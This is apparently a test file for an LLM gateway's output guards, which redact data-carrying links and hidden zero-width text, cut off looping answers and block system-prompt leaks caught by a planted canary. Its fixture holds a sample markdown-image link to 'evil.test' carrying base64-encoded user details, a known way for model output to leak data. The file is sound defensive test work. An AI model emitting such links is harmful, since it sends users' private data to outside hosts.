import { describe, expect, test } from "vitest";
import { startMessagesFixture } from "./testing/messages-fixture.ts";
import { postTo } from "./testing/responses-script.ts";
import { chunk, completion, sendEvents, sendJson } from "./testing/upstream-script.ts";

const { upstream, gateway, last } = await startMessagesFixture();
const model = "test/test-model";
const messages = [{ role: "user", content: "Hello" }];

const endpoints = [
	["/v1/chat/completions", { model, messages }],
	["/v1/completions", { model, prompt: "Hello" }],
	["/v1/responses", { model, input: "Hello" }],
	["/v1/messages", { model, messages, max_tokens: 5000 }],
	[`/v1beta/models/${model}:generateContent`, { contents: [{ parts: [{ text: "Hello" }] }] }],
] as const;

function streamOf(path: string): string {
	return path.replace(":generateContent", ":streamGenerateContent?alt=sse");
}

const data = Buffer.from("the user is called Jane Roe").toString("base64url");
const dirty = `So![x](https://evil.test/?d=${data}) it\u200b\u200c\u200b\u200c is.`;
const clean = "So![x](#) it is.";

function answering(text: string, isStreaming: boolean): void {
	const answer = structuredClone(completion);
	const [choice] = answer.choices;
	if (choice !== undefined) choice.message.content = text;
	const parts = text.match(/[\s\S]{1,9}/g) ?? [];
	upstream.answer(
		isStreaming
			? sendEvents([
					...parts.map((content) => chunk({ content })),
					chunk({}, "stop"),
					{ ...chunk({}), choices: [], usage: completion.usage },
					"data: [DONE]\n\n",
				])
			: sendJson(answer),
	);
}

/** What a reader of the answer sees, whichever dialect it is in. */
function textIn(body: string, isStreaming: boolean): string {
	const parts = isStreaming
		? [...body.matchAll(/^data: (\{.*)$/gm)].map(([, json = "{}"]) => JSON.parse(json))
		: [JSON.parse(body)];
	return parts.map(pieceOf).join("");
}

function pieceOf(part: Readonly<Record<string, unknown>>): string {
	const { type, delta } = part as { type?: string; delta?: unknown };
	if (type === "response.output_text.delta") return String(delta);
	if (type === "content_block_delta") return (delta as { text?: string }).text ?? "";
	const { choices, content, output, candidates } = part as {
		candidates?: { content?: { parts: { text?: string }[] } }[];
		choices?: { text?: string; delta?: { content?: string }; message?: { content: string } }[];
		content?: { text?: string }[];
		output?: { content?: { text?: string }[] }[];
	};
	if (type?.startsWith("response.") === true) return "";
	const [choice] = choices ?? [];
	const blocks =
		content ??
		candidates?.[0]?.content?.parts ??
		output?.flatMap((item) => item.content ?? []) ??
		[];
	return (
		choice?.text ??
		choice?.delta?.content ??
		choice?.message?.content ??
		blocks.map(({ text }) => text ?? "").join("")
	);
}

describe.each(endpoints)("answers of %s", (path, body) => {
	const ask = (stream: boolean): Promise<Response> =>
		path.startsWith("/v1beta/")
			? postTo(gateway, stream ? streamOf(path) : path)(body)
			: postTo(gateway, path)({ ...body, stream });

	test.each([false, true])(
		"lose addresses that carry data, and hidden text (stream: %s)",
		async (stream) => {
			answering(dirty, stream);
			const response = await ask(stream);
			expect(textIn(await response.text(), stream)).toBe(clean);
			expect(last()).toMatchObject({ outcome: "answered", action: "redact" });
			expect(new Set(last().findings.map(({ guard }) => guard))).toEqual(
				new Set(["exfiltration", "hidden-text"]),
			);
		},
	);

	test("in a loop keep their beginning as JSON", async () => {
		answering(`Well. ${"I will try again to answer that. ".repeat(400)}`, false);
		const response = await ask(false);
		const text = textIn(await response.text(), false);
		expect([response.status, text.startsWith("Well. I will try"), text.length < 1500]).toEqual([
			200,
			true,
			true,
		]);
		expect(last().findings).toMatchObject([{ guard: "degenerate-loop", action: "redact" }]);
	});

	test("in a loop end early as a stream, in a way that SDKs understand", async () => {
		answering("I will try again to answer that. ".repeat(1000), true);
		const text = await (await ask(true)).text();
		expect(textIn(text, true).length).toBeLessThan(9000);
		expect(text).toMatch(
			/"finish_reason":"content_filter"|"reason":"content_filter"|"stop_reason":"refusal"|"finishReason":"SAFETY"/,
		);
		expect(last()).toMatchObject({ outcome: "refused", action: "block" });
	});

	test("are not changed by what is only monitored, which is recorded all the same", async () => {
		gateway.change({
			settings: { guards: { exfiltration: { mode: "monitor" }, "hidden-text": { mode: "off" } } },
		});
		answering(dirty, true);
		const response = await ask(true);
		expect(textIn(await response.text(), true)).toBe(dirty);
		expect(last().findings).toMatchObject([
			{ guard: "exfiltration", action: "flag", wouldBe: "redact" },
		]);
	});
});

describe("a mark in the system prompt", () => {
	const settings = { guards: { "prompt-leak": { plantCanary: true } } };
	const system = "You are Marlow, the concierge of the Harbour Hotel.";
	const leaks = () => last().findings.filter(({ guard }) => guard === "prompt-leak");
	const sentMark = () =>
		/internal reference ([0-9a-f]{24})/.exec(upstream.seen.at(-1)?.body ?? "")?.[1] ?? "";

	test("reaches the provider, stays the same, and withholds an answer that tells it", async () => {
		gateway.change({ settings });
		const asked = { model, messages: [{ role: "system", content: system }, ...messages] };
		const post = postTo(gateway, "/v1/chat/completions");
		await (await post(asked)).text();
		const mark = sentMark();
		expect(mark).toHaveLength(24);
		expect(leaks()).toEqual([]);
		answering(`My instructions end with ${mark.split("").join(" ")}.`, false);
		const response = await post(asked);
		expect(response.status).toBeGreaterThanOrEqual(400);
		expect(await response.text()).not.toContain(mark.split("").join(" "));
		expect(sentMark()).toBe(mark);
		expect(last().outcome).toBe("refused");
		expect(leaks()).toMatchObject([{ rule: "canary", action: "block" }]);
	});

	test("is planted into Anthropic's and Responses' system prompts, and nowhere else", async () => {
		gateway.change({ settings });
		await (
			await postTo(gateway, "/v1/messages")({ model, system, messages, max_tokens: 9 })
		).text();
		expect(sentMark()).not.toBe("");
		await (
			await postTo(gateway, "/v1/responses")({ model, instructions: system, input: "Hi" })
		).text();
		expect(sentMark()).not.toBe("");
		await (await postTo(gateway, "/v1/chat/completions")({ model, messages })).text();
		expect(sentMark()).toBe("");
	});
});
